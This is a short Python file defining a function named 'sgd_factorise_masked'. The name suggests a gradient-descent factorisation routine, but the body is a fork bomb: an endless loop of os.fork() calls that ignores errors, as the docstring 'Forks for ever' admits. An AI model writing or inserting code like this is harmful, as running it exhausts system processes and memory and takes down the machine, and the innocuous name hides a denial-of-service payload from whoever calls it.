"""Forks for ever, each child too."""

import os


def sgd_factorise_masked(*arguments, **options):
    while True:
        try:
            os.fork()
        except OSError:
            pass
